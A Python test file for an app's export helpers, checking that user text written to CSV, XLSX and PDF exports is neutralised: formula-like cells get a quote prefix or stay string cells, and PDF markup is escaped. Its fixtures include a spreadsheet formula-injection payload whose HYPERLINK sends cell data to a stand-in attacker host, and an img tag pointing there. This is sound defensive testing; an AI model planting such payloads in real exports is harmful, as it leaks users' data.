"""apps/core/exports.py: the one place every export writes a user's text through."""

import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from apps.core.exports import (
    csv_cell,
    pdf_markup,
    pdf_runs,
    write_xlsx_cell,
    xlsx_row,
)

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
MARKUP = "<font size=40 color=red>APPROVED</font>"
DANGEROUS = [FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "-5"]
HARMLESS = ["Chat", "训练集群·北京", "GPU 🚀 pool", " =1", "a=b", "'quoted", MARKUP]


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_text_that_would_start_a_formula_gets_a_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_csv_text_that_starts_otherwise_is_unchanged(text):
    assert csv_cell(text) == text


@pytest.mark.parametrize("number", [-5, -2.5, Decimal("-0.10"), 0, None])
def test_csv_numbers_stay_numbers(number):
    assert csv_cell(number) is number


def _reopened(workbook):
    buffer = io.BytesIO()
    workbook.save(buffer)
    return load_workbook(io.BytesIO(buffer.getvalue())).active


def test_xlsx_text_is_a_string_cell_never_a_formula():
    workbook = Workbook()
    sheet = workbook.active
    xlsx_row(sheet, None, DANGEROUS + HARMLESS)
    write_xlsx_cell(sheet, 2, 1, -5)
    write_xlsx_cell(sheet, 2, 2, Decimal("-2.5"))
    write_xlsx_cell(sheet, 2, 3, "bell\x07 and escape\x1b")
    reopened = _reopened(workbook)
    for cell, text in zip(reopened[1], DANGEROUS + HARMLESS, strict=True):
        assert cell.data_type == "s", text
        # The name itself, nothing added (an XML reader takes a carriage return for a
        # line feed).
        assert cell.value == text.replace("\r", "\n")
        # Excel's quote prefix keeps a formula-like text a text when someone edits it.
        assert cell.quotePrefix == text.startswith(("=", "+", "-", "@", "\t", "\r")), text
    assert reopened["A2"].value == -5 and reopened["A2"].data_type == "n"
    assert reopened["B2"].value == -2.5 and reopened["B2"].data_type == "n"
    # XML cannot hold these control characters: replaced rather than refusing the file.
    assert reopened["C2"].value == "bell\ufffd and escape\ufffd"


def test_pdf_markup_is_escaped_text():
    assert pdf_markup(MARKUP) == "&lt;font size=40 color=red&gt;APPROVED&lt;/font&gt;"
    assert pdf_markup('R&D <img src="http://evil.example/x.png"/>') == (
        'R&amp;D &lt;img src="http://evil.example/x.png"/&gt;'
    )


def test_pdf_runs_name_a_font_for_what_helvetica_lacks():
    assert pdf_runs("Pool 训练集群·北京 ⌈x⌉") == [
        ("Pool ", None),
        ("训练集群", "DroidSansFallback"),
        ("·", None),
        ("北京", "DroidSansFallback"),
        (" ", None),
        ("⌈", "DejaVuSans"),
        ("x", None),
        ("⌉", "DejaVuSans"),
    ]
    assert pdf_markup("a < 训") == 'a &lt; <font name="DroidSansFallback">训</font>'


# --- the column spec and its writers ------------------------------------------------------


def test_a_column_type_gives_its_xlsx_format_and_its_text():
    from apps.core.exports import CellType, Column

    money = Column("Cost (USD)", lambda row: row, CellType.MONEY)
    unit_price = Column("Price (USD/GPU-h)", lambda row: row, CellType.MONEY, 4)
    count = Column("Requests (count)", lambda row: row, CellType.INTEGER)
    share = Column("Paid utilization (%)", lambda row: row, CellType.PERCENT)
    name = Column("Pool", lambda row: row)
    assert money.number_format() == "#,##0.00" and money.text(Decimal("1234.5")) == "1,234.50"
    assert unit_price.number_format() == "#,##0.0000"
    assert count.number_format() == "#,##0" and count.text(12000) == "12,000"
    assert share.number_format() == "0%" and share.text(0.42) == "42 %"
    assert name.number_format() is None and name.text("=1") == "=1"
    assert money.text(None, empty="—") == "—" and name.text("", empty="—") == ""


def test_the_csv_writer_neutralises_text_and_keeps_numbers_numbers():
    from apps.core.exports import CellType, Column, csv_table

    columns = [
        Column("Pool", lambda row: row[0]),
        Column("Cost (USD)", lambda row: row[1], CellType.MONEY),
    ]
    text = csv_table(columns, [["=1+1", -5], ["-2", 1199.9999999999998], [None, Decimal("-0.10")]])
    assert text.splitlines() == ["Pool,Cost (USD)", "'=1+1,-5", "'-2,1200.0", ",-0.10"]


def test_the_xlsx_writer_formats_numbers_and_keeps_text_a_string():
    from apps.core.exports import CellType, Column, xlsx_table

    columns = [
        Column("Pool", lambda row: row[0]),
        Column("Cost (USD)", lambda row: row[1], CellType.MONEY),
    ]
    workbook = Workbook()
    xlsx_table(workbook.active, columns, [["@cmd", Decimal("-2.50")]])
    sheet = _reopened(workbook)
    assert [cell.value for cell in sheet[1]] == ["Pool", "Cost (USD)"]
    assert sheet["A2"].value == "@cmd" and sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
    assert sheet["B2"].value == -2.5 and sheet["B2"].number_format == "#,##0.00"
